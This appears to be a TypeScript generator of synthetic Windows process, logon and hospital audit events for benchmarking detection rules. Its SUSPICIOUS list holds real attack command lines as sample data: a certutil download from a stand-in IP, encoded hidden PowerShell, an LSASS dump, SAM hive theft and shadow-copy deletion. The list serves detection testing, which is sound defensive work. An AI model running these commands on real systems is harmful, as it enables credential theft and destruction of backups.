/**
 * Synthetic events for `bench:detect`: Windows Sysmon/Security process
 * creations and logons (attributes as Windows names them, Channel/EventID
 * included) and e-health access events (ECS + health.*), with a small share
 * of suspicious activity so rules do fire. Deterministic (seeded).
 */
import type { NormalizedEvent } from '../../main/events/types';

export type Kind = 'process' | 'logon' | 'health';

function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SYS32 = 'C:\\Windows\\System32\\';
const BINARIES: [string, string, string][] = [
  [SYS32 + 'svchost.exe', 'svchost.exe', '-k netsvcs -p -s Schedule'],
  [SYS32 + 'cmd.exe', 'Cmd.Exe', '/c echo ok > C:\\Temp\\out.txt'],
  [SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', '-NoProfile -Command Get-ChildItem C:\\Users'],
  [SYS32 + 'conhost.exe', 'CONHOST.EXE', '0xffffffff -ForceV1'],
  [SYS32 + 'taskhostw.exe', 'taskhostw.exe', 'Install $(Arg0)'],
  [SYS32 + 'RuntimeBroker.exe', 'RuntimeBroker.exe', '-Embedding'],
  [SYS32 + 'notepad.exe', 'NOTEPAD.EXE', 'C:\\Users\\Public\\notes.txt'],
  [SYS32 + 'SearchProtocolHost.exe', 'SearchProtocolHost.exe', 'Global\\UsGthrFltPipeMssGthrPipe1'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe', '--type=renderer --lang=fr'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'WinWord.exe', '/n "C:\\Users\\Public\\compte-rendu.docx"'],
  ['C:\\Program Files (x86)\\DxCare\\dxcare.exe', 'dxcare.exe', '/site:CHU /user:%USERNAME%'],
  [SYS32 + 'wbem\\WmiPrvSE.exe', 'Wmiprvse.exe', '-secured -Embedding'],
  [SYS32 + 'msiexec.exe', 'msiexec.exe', '/V'],
  [SYS32 + 'dllhost.exe', 'dllhost.exe', '/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}'],
];
const SUSPICIOUS: [string, string, string][] = [
  [SYS32 + 'certutil.exe', 'CertUtil.exe', '-urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe'],
  [SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
  [SYS32 + 'rundll32.exe', 'RUNDLL32.EXE', 'C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full'],
  [SYS32 + 'whoami.exe', 'whoami.exe', '/all'],
  [SYS32 + 'reg.exe', 'reg.exe', 'save hklm\\sam C:\\Temp\\sam.save'],
  [SYS32 + 'vssadmin.exe', 'VSSADMIN.EXE', 'delete shadows /all /quiet'],
];
const PARENTS = [SYS32 + 'services.exe', 'C:\\Windows\\explorer.exe', SYS32 + 'cmd.exe', SYS32 + 'svchost.exe', SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe'];
const USERS = ['jdupont', 'mmartin', 'pbernard', 'sleroy', 'admin-it', 'lmoreau', 'cpetit', 'adurand', 'svc-backup', 'nrichard'];
const HOSTS = ['PC-URG-014', 'PC-CARDIO-03', 'SRV-DXCARE-01', 'PC-RADIO-07', 'SRV-AD-01'];
const SERVICES: [string, string, string][] = [
  ['Portail-Coordination', 'portail.audit', 'patient-record-read'],
  ['PACS', 'pacs.audit', 'study-retrieve'],
  ['SRI', 'sri.auth', 'user-login'],
  ['MSSante', 'mssante.mail', 'email-send'],
  ['Telemedecine', 'telemedecine.audit', 'teleconsultation-start'],
  ['ROR', 'ror.audit', 'directory-read'],
];

const pick = <T>(r: () => number, list: readonly T[]): T => list[Math.floor(r() * list.length)];

function windowsEvent(ts: Date, attrs: Record<string, unknown>, message: string): NormalizedEvent {
  return {
    '@timestamp': ts,
    'event.dataset': 'windows.eventlog',
    'service.name': 'Windows',
    'host.name': String(attrs.Computer),
    'event.severity': 'info',
    'event.category': 'host',
    'event.action': `event-${String(attrs.EventID)}`,
    'event.outcome': 'unknown',
    message,
    'event.original': JSON.stringify(attrs),
    attributes: attrs,
  };
}

function processEvent(r: () => number, ts: Date, i: number): NormalizedEvent {
  const [image, ofn, args] = r() < 0.01 ? pick(r, SUSPICIOUS) : pick(r, BINARIES);
  const parent = pick(r, PARENTS);
  const user = pick(r, USERS);
  const host = pick(r, HOSTS);
  const sysmon = r() < 0.85;
  const cmd = `"${image}" ${args}`;
  const base = { Computer: host, Hostname: host, ProcessId: String(1000 + (i % 9000)), CommandLine: cmd };
  const attrs = sysmon
    ? {
        ...base,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        EventID: 1,
        Image: image,
        OriginalFileName: ofn,
        ParentImage: parent,
        ParentCommandLine: `"${parent}"`,
        User: `CHU\\${user}`,
        IntegrityLevel: r() < 0.2 ? 'High' : 'Medium',
        CurrentDirectory: `C:\\Users\\${user}\\`,
        Company: 'Microsoft Corporation',
        Description: ofn.replace(/\.exe$/i, ''),
        Product: 'Microsoft® Windows® Operating System',
        Hashes: `SHA256=${(i * 2654435761).toString(16).padStart(16, '0')}${'A'.repeat(48)}`,
        ParentProcessId: '4',
        LogonId: '0x3e7',
      }
    : {
        ...base,
        Channel: 'Security',
        EventID: 4688,
        NewProcessName: image,
        ParentProcessName: parent,
        SubjectUserName: user,
        SubjectDomainName: 'CHU',
        TokenElevationType: '%%1936',
      };
  return windowsEvent(ts, attrs, `Process Create: ${cmd}`);
}

function logonEvent(r: () => number, ts: Date): NormalizedEvent {
  const ok = r() < 0.9;
  const user = pick(r, USERS);
  const host = pick(r, HOSTS);
  const attrs = {
    Channel: 'Security',
    EventID: ok ? (r() < 0.5 ? 4624 : 4634) : 4625,
    Computer: host,
    Hostname: host,
    TargetUserName: user,
    TargetDomainName: 'CHU',
    LogonType: pick(r, ['2', '3', '3', '10', '5']),
    IpAddress: `10.${Math.floor(r() * 4)}.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`,
    WorkstationName: pick(r, HOSTS),
    AuthenticationPackageName: pick(r, ['Kerberos', 'NTLM', 'Negotiate']),
    LogonProcessName: 'User32',
    ProcessName: SYS32 + 'lsass.exe',
    SubjectUserName: 'SRV-AD-01$',
    Status: ok ? '0x0' : '0xc000006d',
  };
  return windowsEvent(ts, attrs, ok ? `An account was successfully logged on: ${user}` : `An account failed to log on: ${user}`);
}

function healthEvent(r: () => number, ts: Date, i: number): NormalizedEvent {
  const [service, dataset, action] = pick(r, SERVICES);
  const user = pick(r, USERS);
  const patient = `P-${(i % 5000).toString(36).toUpperCase().padStart(16, '0')}`;
  const purpose = r() < 0.01 ? 'ETREAT' : 'TREAT';
  const ip = `10.${Math.floor(r() * 4)}.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`;
  return {
    '@timestamp': ts,
    'event.dataset': dataset,
    'service.name': service,
    'event.severity': 'info',
    'event.category': action === 'user-login' ? 'authentication' : 'database',
    'event.action': action,
    'event.outcome': r() < 0.95 ? 'success' : 'failure',
    'user.name': user,
    'user.roles': [pick(r, ['médecin', 'infirmier', 'secrétaire médicale'])],
    'source.ip': ip,
    'health.patient.pseudonym': action === 'user-login' ? null : patient,
    'health.object': `DocumentReference/${i % 100000}`,
    'health.purpose_of_use': purpose,
    'health.break_glass': purpose === 'ETREAT',
    message: `${user} : ${action} (${service})`,
    'event.original': `<110>1 ${ts.toISOString()} ${service.toLowerCase()} audit - - - user=${user} action=${action} patient=${patient} ip=${ip} purpose=${purpose}`,
  };
}

/** A pool of distinct events, cycled by the benchmark (`kinds` weights: process, logon, health). */
export function makeEvents(count: number, seed = 7, weights: Record<Kind, number> = { process: 0.4, logon: 0.25, health: 0.35 }): { event: NormalizedEvent; kind: Kind }[] {
  const r = rng(seed);
  const start = Date.UTC(2026, 2, 28, 22, 0, 0);
  const out: { event: NormalizedEvent; kind: Kind }[] = [];
  for (let i = 0; i < count; i++) {
    const ts = new Date(start + i * 250);
    const x = r();
    const kind: Kind = x < weights.process ? 'process' : x < weights.process + weights.logon ? 'logon' : 'health';
    const event = kind === 'process' ? processEvent(r, ts, i) : kind === 'logon' ? logonEvent(r, ts) : healthEvent(r, ts, i);
    out.push({ event, kind });
  }
  return out;
}
